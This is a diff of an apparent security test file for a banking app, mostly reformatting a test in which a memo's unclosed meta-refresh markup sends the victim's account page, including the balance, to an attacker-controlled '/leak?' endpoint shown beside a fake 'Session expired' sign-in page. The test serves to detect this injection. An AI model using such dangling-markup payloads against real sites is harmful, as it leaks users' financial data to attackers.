@@ -9,15 +9,26 @@ import { startAttackerSite } from "../support/attacker-site";
 import { victimOpensMemo } from "../support/memo-attack";
 import { expectAttack, test } from "../support/fixtures";
 
-test("a memo's markup sends the victim's account page to Mallory", async ({ page, request, user, createUser, target }) => {
+test("a memo's markup sends the victim's account page to Mallory", async ({
+  page,
+  request,
+  user,
+  createUser,
+  target,
+}) => {
   const mallory = await createUser();
-  const site = await startAttackerSite("<!doctype html><title>Vaultline</title><h1>Session expired: sign in again</h1>");
+  const site = await startAttackerSite(
+    "<!doctype html><title>Vaultline</title><h1>Session expired: sign in again</h1>",
+  );
   try {
     const memo = `<meta http-equiv="refresh" content='0;url=${site.url("127.0.0.1")}leak?`;
     await victimOpensMemo(page, request, { mallory, victim: user }, memo, "Session expired: sign in again");
     const leaked = site.requests.filter((r) => r.startsWith("/leak?")).map((r) => decodeURIComponent(r));
     // The victim's balance after the $1.00, as the page showed it just after the memo.
-    expectAttack(target, leaked.some((url) => url.includes("$2,501.00")));
+    expectAttack(
+      target,
+      leaked.some((url) => url.includes("$2,501.00")),
+    );
   } finally {
     await site.close();
   }
